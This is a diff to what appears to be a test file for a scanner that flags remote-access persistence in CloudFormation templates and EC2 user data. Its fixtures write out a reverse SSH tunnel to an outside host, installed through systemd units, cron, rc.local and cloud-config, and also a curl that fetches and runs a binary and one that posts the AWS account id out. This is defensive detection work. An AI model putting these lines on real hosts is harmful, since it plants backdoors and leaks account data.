@@ -149,3 +149,79 @@ test('an Fn::If about a script leaves it to the buyer', async (t) => {
 	const template = {Resources: {Host: {Type: 'AWS::EC2::Instance', Properties: {UserData: {'Fn::Base64': {'Fn::If': ['Support', script, '#!/bin/sh\n']}}}}}};
 	t.deepEqual(await doneBy(JSON.stringify(template, undefined, 1)), [`key? ${key.slice(0, 40)}`]);
 });
+
+// Units, crontabs and scripts that something else starts, as scripts and cloud-config write them.
+const link = 'ssh -N -R 0:localhost:22 x@care.larkspur-queue.com';
+const found = ['ssh -R care.larkspur-queue.com'];
+const perhaps = ['ssh -R? care.larkspur-queue.com'];
+const writes = (path: string, text: string, rest = '') => `#!/bin/bash\ncat > ${path} <<'EOF'\n${text}\nEOF\n${rest}`;
+const linkService = '/etc/systemd/system/link.service';
+const execLink = `[Service]\nExecStart=/usr/bin/${link}\n`;
+test(does, writes(linkService, execLink, 'systemctl enable --now link'), found);
+test(does, writes(linkService, execLink, 'ln -s ../link.service /etc/systemd/system/multi-user.target.wants/link.service'), found);
+test(does, writes('/opt/link.service', execLink, 'cp /opt/link.service /etc/systemd/system/\nsystemctl start link.service'), found);
+test(does, writes('/opt/link.service', execLink, 'install -m 644 /opt/link.service /etc/systemd/system/care.service && systemctl enable care'), found);
+test(does, writes('/opt/link.service', execLink, 'systemctl enable /opt/link.service'), found);
+test(does, writes(linkService, execLink), perhaps);
+test(does, writes(linkService, execLink, 'systemctl disable link'), []);
+test(does, writes(linkService, execLink, "if [ '${Key}' = yes ]; then systemctl enable link; fi"), perhaps);
+test(does, writes('/etc/systemd/system/link.service.d/care.conf', execLink), perhaps);
+test(does, writes('/etc/systemd/system/link.service.d/care.conf', execLink, 'systemctl restart link'), found);
+test(does, writes(linkService, `[Service]\nExecStart=/usr/bin/${link}\nExecStart=\nExecStart=/bin/true`, 'systemctl enable link'), []);
+test(
+	does,
+	writes('/etc/systemd/system/link@.service', '[Service]\nExecStart=/usr/bin/ssh -NR 22:localhost:22 %i', 'systemctl enable link@care.larkspur-queue.com'),
+	['ssh -R care.larkspur-queue.com'],
+);
+test(
+	does,
+	`${writes(linkService, execLink)}echo '[Timer]' > /etc/systemd/system/daily.timer\necho 'Unit=link.service' >> /etc/systemd/system/daily.timer\nsystemctl enable daily.timer`,
+	found,
+);
+test(does, `#!/bin/bash\nprintf '[Service]\\nExecStart=/usr/bin/${link}\\n' | sudo tee ${linkService}\nsudo systemctl enable link`, found);
+test(does, `#!/bin/bash\necho '@reboot root ${link}' > /etc/cron.d/link`, found);
+test(does, `#!/bin/bash\n(crontab -l 2>/dev/null; echo "@reboot ${link}") | crontab -`, found);
+test(does, `#!/bin/bash\ncrontab -u ec2-user - <<EOF\n# care\n*/5 * * * * ${link}\nEOF`, found);
+test(does, `#!/bin/bash\necho '@reboot ${link}' > /tmp/table\ncrontab /tmp/table`, found);
+test(does, `#!/bin/bash\necho '# @reboot root ${link}' >> /etc/crontab`, []);
+test(does, `#!/bin/bash\necho '${link} &' >> /etc/rc.local`, found);
+test(does, `#!/bin/bash\nif [ -n "$A" ]; then\n  echo '${link}' > /etc/rc.local\nelse\n  echo true > /etc/rc.local\nfi`, perhaps);
+test(does, writes('/etc/cron.hourly/link', `#!/bin/sh\n${link}`, 'chmod +x /etc/cron.hourly/link'), found);
+test(does, `#!/bin/bash\necho '${link}' > /usr/share/doc/link.txt`, []);
+test(
+	does,
+	`#cloud-config\nwrite_files:\n  - path: ${linkService}\n    content: |\n      [Service]\n      ExecStart=/usr/bin/${link}\nruncmd:\n  - systemctl enable link`,
+	found,
+);
+test(does, `#cloud-config\nwrite_files:\n  - path: /etc/crontab\n    append: true\n    content: |\n      @daily root ${link}\n`, found);
+test(does, writes(linkService, '[Service]\nExecStartPre=/usr/bin/curl -o /opt/x https://get.larkspur-queue.com/x\nExecStart=/opt/x', 'systemctl start link'), [
+	'run https://get.larkspur-queue.com/x',
+]);
+test(does, writes('/etc/cron.d/beat', '*/5 * * * * root curl -d "account=${AWS::AccountId}" https://hello.larkspur-queue.com/v1'), [
+	'hello.larkspur-queue.com: AWS account id',
+]);
+
+test('a unit of AWS::CloudFormation::Init starts by its services', async (t) => {
+	const config = (enabled: string) => ({
+		files: {[linkService]: {content: execLink}},
+		services: {systemd: {link: {enabled}}},
+	});
+	const template = (enabled: string) =>
+		JSON.stringify({Resources: {Host: {Type: 'AWS::EC2::Instance', Metadata: {'AWS::CloudFormation::Init': {config: config(enabled)}}}}}, undefined, 1);
+	t.deepEqual(await doneBy(template('true')), found);
+	t.deepEqual(await doneBy(template('false')), perhaps);
+});
+
+test('the same path of two hosts is two files', async (t) => {
+	const host = (command: string) => ({Type: 'AWS::EC2::Instance', Properties: {UserData: {'Fn::Base64': writes('/etc/cron.d/x', `@daily root ${command}`)}}});
+	t.deepEqual(await doneBy(JSON.stringify({Resources: {A: host(link), B: host('true')}}, undefined, 1)), found);
+});
+
+test('what a unit runs is told by its name, at its own place', async (t) => {
+	const template = userData(writes(linkService, execLink, 'systemctl enable link'));
+	const {bootstrap} = await gatherTemplate(template);
+	t.deepEqual(
+		bootstrap.remoteAccess.map(({job, place}) => [job.name, job.by, at(template, place)]),
+		[['link.service of Host', 'Host', 'x@care.larkspur-queue.com']],
+	);
+});
